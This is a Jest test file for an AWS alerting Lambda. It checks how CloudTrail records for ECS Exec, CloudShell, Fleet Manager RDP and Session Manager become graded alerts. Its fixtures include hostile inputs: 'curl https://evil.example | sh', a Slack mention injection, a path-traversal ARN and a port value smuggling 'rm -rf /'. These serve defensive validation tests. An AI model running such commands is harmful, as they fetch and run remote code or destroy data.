import { alertsFromEnvelope } from '../../../lambda/ingest/alerts-from-envelope';
import { HostEnricher } from '../../../lambda/ingest/enrich/host-enricher';
import { isApiLogin } from '../../../lambda/ingest/parse/api-event';
import { decodeEnvelope } from '../../../lambda/ingest/parse/envelope';
import type { Alert } from '../../../lambda/shared/alert';
import { emailText } from '../../../lambda/shared/alert-text';
import { DEFAULT_MENTIONS, renderAlert } from '../../../lambda/shared/slack/render';
import { WEB1 } from '../../support/alerts';
import { cloudTrailEvent, withDetail } from '../../support/fixtures';
import { onlyValidAlert } from '../../support/schema';

/**
 * The API-call doors beyond Session Manager and Instance Connect: ECS Exec, CloudShell and Fleet
 * Manager Remote Desktop, each from a fixture in AWS's documented shape (fixtures/cloudtrail/SOURCES.md).
 */

const WIN1 = { ...WEB1, InstanceId: 'i-02573cafcf0123456', Tags: [{ Key: 'Name', Value: 'win-1' }] };
const enricher = () => new HostEnricher(async (filter) => [WEB1, WIN1].filter((i) => filter.Values!.includes(filter.Name === 'instance-id' ? i.InstanceId! : i.PrivateIpAddress!)), 60_000);

async function alertsFor(event: Record<string, any>) {
  return alertsFromEnvelope(decodeEnvelope(event), { policy: {}, region: 'eu-west-1', enricher: enricher() });
}

async function alertFor(fixture: string | Record<string, any>): Promise<Alert> {
  const { alerts } = await alertsFor(typeof fixture === 'string' ? cloudTrailEvent(fixture) : fixture);
  return onlyValidAlert(alerts);
}


describe('ECS Exec', () => {
  test('an Identity Center user\'s interactive shell in a container: low, the person, the container and the command', async () => {
    const alert = await alertFor('ecs-execute-command');
    expect(alert).toMatchObject({
      kind: 'ecs-exec',
      severity: 'low',
      reasons: ['ECS Exec interactive command'],
      outcome: 'success',
      user: 'alice@example.com',
      actor: { name: 'alice@example.com', via: 'sso' },
      container: { cluster: 'prod', task: 'd789e94343414c25b9f6bd59e0a1b2c3', container: 'app', taskArn: 'arn:aws:ecs:eu-west-1:111122223333:task/prod/d789e94343414c25b9f6bd59e0a1b2c3', command: '/bin/sh', interactive: true },
      session: { id: 'ecs-execute-command-0f1e2d3c4b5a69788' },
      origin: { eventSource: 'ecs.amazonaws.com', eventName: 'ExecuteCommand' },
      summary: '[LOW] ECS Exec: alice@example.com into app in prod/d789e94343414c25b9f6bd59e0a1b2c3 (/bin/sh)',
    });
    expect(alert).not.toHaveProperty('host');
  });

  test('the session token in the response never reaches the alert', async () => {
    const alert = await alertFor('ecs-execute-command');
    expect(JSON.stringify(alert)).not.toContain('HIDDEN_DUE_TO_SECURITY_REASONS');
    expect(JSON.stringify(alert)).not.toContain('streamUrl');
  });

  test('a denied ExecuteCommand is a failure, medium, naming who tried but not as who got in', async () => {
    const alert = await alertFor('ecs-execute-command-denied');
    expect(alert).toMatchObject({ kind: 'ecs-exec', outcome: 'failure', severity: 'medium', user: 'bob@example.com', container: { cluster: 'prod', container: 'app' } });
    expect(alert.reasons).toContain('denied: AccessDeniedException');
    expect(alert).not.toHaveProperty('actor');
    expect(alert.summary).toBe('[MEDIUM] Denied ECS Exec: bob@example.com into app in prod/d789e94343414c25b9f6bd59e0a1b2c3 (/bin/sh)');
  });

  test('root in a container is critical', async () => {
    const alert = await alertFor(withDetail('ecs-execute-command', (d) => {
      d.userIdentity = { type: 'Root', principalId: '111122223333', arn: 'arn:aws:iam::111122223333:root', accountId: '111122223333' };
    }));
    expect(alert).toMatchObject({ severity: 'critical', reasons: ['ECS Exec interactive command', 'root user'] });
  });

  test('what the caller wrote is kept as the request it is: a task that is not an ARN is not a task ARN, a command with mentions is escaped in Slack', async () => {
    const alert = await alertFor(withDetail('ecs-execute-command', (d) => {
      d.requestParameters.task = 'arn:aws:ecs:eu-west-1:111122223333:task/../../evil';
      d.requestParameters.command = '<!channel> curl https://evil.example | sh';
      d.requestParameters.cluster = 'arn:aws:ecs:eu-west-1:111122223333:cluster/prod';
      d.responseElements = null;
    }));
    expect(alert.container).toMatchObject({ cluster: 'prod', task: 'evil', container: 'app' });
    expect(alert.container?.command).toBe('<!channel> curl https://evil.example | sh');
    // Slack reads mentions in mrkdwn text (the top-level text and the fields), not in plain_text.
    const message = renderAlert(alert, { tagKeys: [], mentions: DEFAULT_MENTIONS });
    const mrkdwn = [message.text, ...JSON.stringify(message.attachments).match(/"type":"mrkdwn","text":"(?:[^"\\]|\\.)*"/g)!];
    expect(mrkdwn.join('\n')).not.toContain('<!channel>');
    expect(mrkdwn.join('\n')).toContain('command `&lt;!channel&gt; curl https://evil.example | sh`');
  });

  test('a record without a task still alerts, saying what it lacked', async () => {
    const { alerts, incomplete } = await alertsFor(withDetail('ecs-execute-command', (d) => {
      delete d.requestParameters.task;
      d.responseElements = null;
    }));
    expect(alerts).toHaveLength(1);
    expect(alerts[0].reasons).toContain('ExecuteCommand record without a task');
    expect(incomplete).toEqual(['ExecuteCommand record without a task']);
  });
});

describe('CloudShell', () => {
  test('an IAM user\'s CloudShell session: low, the caller, the environment and where', async () => {
    const alert = await alertFor('cloudshell-create-session');
    expect(alert).toMatchObject({
      kind: 'cloudshell',
      severity: 'low',
      reasons: ['CloudShell session'],
      user: 'carol',
      actor: { name: 'carol', via: 'iam' },
      sourceIp: '198.51.100.23',
      region: 'eu-west-1',
      session: { environmentId: 'e9e02006-a581-4d3c-b49c-e66712765d4d' },
      summary: '[LOW] CloudShell session: carol in 111122223333 eu-west-1',
    });
    expect(emailText(alert)).toContain('environmentId e9e02006-a581-4d3c-b49c-e66712765d4d');
  });

  test('S3 Express\'s CreateSession and Athena\'s StartSession share the names but are not a way in', async () => {
    expect(isApiLogin({ eventSource: 's3express.amazonaws.com', eventName: 'CreateSession' })).toBe(false);
    expect(isApiLogin({ eventSource: 'athena.amazonaws.com', eventName: 'StartSession' })).toBe(false);
    expect(isApiLogin({ eventSource: 'cloudshell.amazonaws.com', eventName: 'StartSession' })).toBe(false);
    expect(isApiLogin({ eventSource: 'cloudshell.amazonaws.com', eventName: 'SendHeartBeat' })).toBe(false);
    const { alerts, ignored } = await alertsFor(withDetail('cloudshell-create-session', (d) => { d.eventSource = 's3express.amazonaws.com'; }));
    expect(alerts).toEqual([]);
    expect(ignored).toMatch(/is not a sign-in or a call that opens a way in/);
  });
});

describe('Fleet Manager Remote Desktop', () => {
  test('an RDP connection from the console: low, the instance enriched, how Windows was signed in to', async () => {
    const alert = await alertFor('fleet-manager-start-connection');
    expect(alert).toMatchObject({
      kind: 'remote-desktop',
      severity: 'low',
      reasons: ['Fleet Manager Remote Desktop connection'],
      user: 'dave',
      region: 'us-east-2',
      host: { instanceId: 'i-02573cafcf0123456', name: 'win-1' },
      session: {
        id: 'arn:aws:ssm-guiconnect:us-east-2:111122223333:connection/fcb810cd-241f-4aae-9ee4-02d590123456',
        type: 'rdp',
        protocol: 'RDP',
        authType: 'Credentials',
        target: 'i-02573cafcf0123456',
      },
      summary: '[LOW] Remote Desktop (RDP): dave to win-1',
    });
    // The connection key and client token are not the alert's business.
    expect(JSON.stringify(alert)).not.toContain('71f9629f-0f9a-4b35-92f2-2d2530123456');
  });

  test('the port-forwarding session Fleet Manager opens for it is not a second alert', async () => {
    const { alerts, ignored, recordIds } = await alertsFor(cloudTrailEvent('ssm-start-session-fleet-manager'));
    expect(alerts).toEqual([]);
    expect(recordIds).toEqual([]);
    expect(ignored).toMatch(/opened by Fleet Manager Remote Desktop/);
  });

  test('the same session started by the user (no invokedBy) is an alert, named as RDP', async () => {
    const alert = await alertFor(withDetail('ssm-start-session-fleet-manager', (d) => {
      delete d.userIdentity.invokedBy;
      d.sourceIPAddress = '203.0.113.9';
    }));
    expect(alert).toMatchObject({ kind: 'ssm-session', reasons: ['SSM session (RDP port forwarding)'], session: { type: 'rdp', portNumber: 3389, document: 'AWS-StartPortForwardingSession' } });
    expect(alert.summary).toBe('[LOW] SSM session: dave to win-1 (RDP port 3389)');
  });
});

describe('Session Manager documents', () => {
  test.each([
    ['ssm-start-session-shell', { type: 'shell', document: 'shell' }, 'SSM shell session', '(shell)'],
    ['ssm-start-session-ssh', { type: 'ssh', document: 'AWS-StartSSHSession', portNumber: 22 }, 'SSM session (SSH over Session Manager)', '(SSH)'],
    ['ssm-start-session-remote-host', {
      type: 'port-forwarding', document: 'AWS-StartPortForwardingSessionToRemoteHost', portNumber: 5432, remoteHost: 'orders.cluster-c0ffee.eu-west-1.rds.amazonaws.com',
    }, 'SSM session (port forwarding to a remote host)', '(port forwarding to orders.cluster-c0ffee.eu-west-1.rds.amazonaws.com:5432)'],
  ])('%s: %o', async (fixture, session, reason, summaryEnd) => {
    const alert = await alertFor(fixture);
    expect(alert.session).toMatchObject(session);
    expect(alert.reasons[0]).toBe(reason);
    expect(alert.summary.endsWith(summaryEnd)).toBe(true);
  });

  test.each([
    ['a custom document is named as custom', { documentName: 'Acme-BreakGlassShell' }, { type: 'custom', document: 'Acme-BreakGlassShell' }],
    ['a document named like an object key is custom', { documentName: 'constructor' }, { type: 'custom', document: 'constructor' }],
    ['a port that is not a number is not a port', { documentName: 'AWS-StartPortForwardingSession', parameters: { portNumber: ['3389; rm -rf /'] } }, { type: 'port-forwarding' }],
    ['a port out of range is not a port', { documentName: 'AWS-StartPortForwardingSession', parameters: { portNumber: ['99999'] } }, { type: 'port-forwarding' }],
    ['port 3389 forwarded is RDP', { documentName: 'AWS-StartPortForwardingSession', parameters: { portNumber: ['3389'] } }, { type: 'rdp', portNumber: 3389 }],
    ['a remote host is read only for the remote-host document', { documentName: 'AWS-StartPortForwardingSession', parameters: { host: ['db'], portNumber: ['5432'] } }, { type: 'port-forwarding', portNumber: 5432 }],
  ])('%s', async (_name, request, session) => {
    const alert = await alertFor(withDetail('ssm-start-session-shell', (d) => { Object.assign(d.requestParameters, request); }));
    expect(alert.session).toMatchObject(session);
    if (!('portNumber' in session)) expect(alert.session).not.toHaveProperty('portNumber');
    if (!('remoteHost' in session)) expect(alert.session).not.toHaveProperty('remoteHost');
  });
});
